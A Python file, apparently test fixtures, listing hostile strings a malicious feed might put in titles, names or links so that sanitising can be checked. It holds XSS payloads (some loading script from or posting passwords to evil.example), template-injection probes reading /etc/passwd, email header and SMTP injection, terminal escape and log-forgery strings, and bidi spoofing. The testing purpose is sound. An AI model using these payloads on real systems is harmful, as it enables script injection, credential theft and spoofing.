"""What hostile feeds write where a title, a name or an author belongs."""

HTML = r"""
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<img src=x onerror=alert(1)>
<img src="http://evil.example/pixel.gif">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg/onload=alert`1`>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data="data:text/html,<script>alert(1)</script>">
<embed src="data:image/svg+xml,<svg onload=alert(1)>">
<body onload=alert(1)>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<link rel=stylesheet href=http://evil.example/x.css>
<style>@import 'http://evil.example/x.css';</style>
<style>body{background:url(http://evil.example/)}</style>
<div style="background:url(javascript:alert(1))">
<div style="width:expression(alert(1))">
<a href="javascript:alert(1)">read</a>
<a href="JaVaScRiPt:alert(1)">read</a>
<a href="java&#09;script:alert(1)">read</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">read</a>
<a href="vbscript:msgbox(1)">read</a>
<form action=http://evil.example><input name=password type=password></form>
<input autofocus onfocus=alert(1)>
<button formaction=javascript:alert(1)>go</button>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>
<math href="javascript:alert(1)">click</math>
<base href="http://evil.example/">
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xmp><script>alert(1)</script></xmp>
<textarea><script>alert(1)</script></textarea>
<title></title><script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</body></html><script>alert(1)</script>
</td></tr></table><script>alert(1)</script>
</div></div></div><h1>OVERWRITTEN</h1>
"><script>alert(1)</script>
'><script>alert(1)</script>
" onmouseover="alert(1)
' onmouseover='alert(1)
`onmouseover=alert(1)
" style="position:fixed;top:0;left:0;width:100%;height:100%
--><script>alert(1)</script><!--
<!--><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE html><script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;script&amp;gt;alert(1)
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
＜script＞alert(1)＜/script＞
<script/xss>alert(1)</script>
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<a href=https://evil.example/?q=<script>>x</a>
<table background="http://evil.example/x.png">
<bdo dir=rtl>evil</bdo>
<font size=7 color=red>LOUD</font>
<img src=cid:logo>
<img srcset="http://evil.example/x.png 2x">
<picture><source srcset=http://evil.example/x.png></picture>
""".strip().split("\n")

TEMPLATE = r"""
{{ 7*7 }}
{{7*'7'}}
{% for x in range(10**9) %}x{% endfor %}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ config }}
{{ self }}
{% include '/etc/passwd' %}
{% import 'os' as os %}
{{ lipsum.__globals__ }}
{# comment #}
{% raw %}{{ 1 }}{% endraw %}
${7*7}
#{7*7}
<%= 7*7 %>
%(title)s %s %n
{0.__class__}
{title}
{n} {severity} {at}
""".strip().split("\n")

HEADER = [
    "Attack\r\nBcc: victim@evil.example",
    "Attack\nBcc: victim@evil.example",
    "Attack\rBcc: victim@evil.example",
    "Attack\r\n\r\n<html>body</html>",
    "Attack\n\nContent-Type: text/html\n\n<script>alert(1)</script>",
    "Attack\x0bBcc: victim@evil.example",
    "Attack\x0cBcc: victim@evil.example",
    "Attack\x85Bcc: victim@evil.example",
    "Attack\u2028Bcc: victim@evil.example",
    "Attack\u2029Bcc: victim@evil.example",
    "Attack\x00Bcc: victim@evil.example",
    "=?utf-8?q?Attack=0D=0ABcc:_victim@evil.example?=",
    "=?utf-8?b?QXR0YWNrDQpCY2M6IHZpY3RpbUBldmlsLmV4YW1wbGU=?=",
    "=?utf-8?q?unfinished",
    "Attack%0d%0aBcc: victim@evil.example",
    '"quoted" <victim@evil.example>',
    "--=_boundary\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    ".\r\nMAIL FROM:<evil@evil.example>",
    "From evil@evil.example Tue Nov 24 06:00:00 2026",
    "A" * 5_000,
    "é" * 5_000,
    "word " * 2_000,
]

BIDI = [
    "invoice \u202egnp.exe",
    "\u202dleft\u202c",
    "\u2066isolate\u2069 \u2067rtl",
    "unclosed \u2068first strong isolate",
    "closing \u2069\u2069\u2069 too often",
    "هجوم \u202eover\u202c",
    "tag \U000e0041\U000e0042 characters",
    "half \ud83d surrogate",
    "\ufffe\uffff not characters",
]

LOG = [
    "Attack\n2026-11-24 06:00:00 INFO all feeds in order",
    "Attack\r\n2026-11-24T06:00:00.000Z ERROR   monitor: forged  feed=x",
    "Attack\r2026-11-24T06:00:00.000Z INFO    monitor: overwritten",
    "\x1b[2J\x1b[1;1H\x1b[31mcleared your screen",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07 copied to your clipboard",
    "\x1bP+q544e\x1b\\ asked your terminal",
    "\x9b31mred by one byte",
    "\x9d0;title\x9c",
    "bell\x07 backspace\x08\x08\x08 delete\x7f",
    "vertical\x0btab form\x0cfeed",
    "nul\x00in the middle",
    "next\x85line \u2028line \u2029paragraph",
    '", "level": "error", "x": "',
    '"}\n{"level": "error", "event": "forged"}',
    '\\", "level": "error", "x": "\\',
    "\\u001b[31m spelled by the feed itself",
    'x" level=error feed="other',
    "x level=error feed=other",
    "ends with a backslash \\",
    'a\\" level=error x=\\"',
    "[red]coloured[/red]",
    "[link=https://evil.example]click[/link]",
    "[bold blink reverse]loud[/]",
    "[/]closes what was never opened",
    "[/red]closes what was never opened",
    "\\[red]with a backslash\\",
    "[[red]]twice[[/red]]",
    "[@click=app.quit]click[/]",
    ":warning: :bomb:",
]

LINKS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "ftp://evil.example/x",
    "https://",
    "https://bank.example@evil.example/",
    'https://evil.example/" onmouseover="alert(1)',
    "https://evil.example/'><script>alert(1)</script>",
    "https://evil.example/\r\nBcc: victim@evil.example",
    "https://evil.example/\u202egnp",
    "https://[::1",
    "https://evil.example:port/",
    "https://evil.example/" + "a" * 5_000,
    "not a link at all",
    "",
]

TEXTS = [*HTML, *TEMPLATE, *HEADER, *BIDI, *LOG]
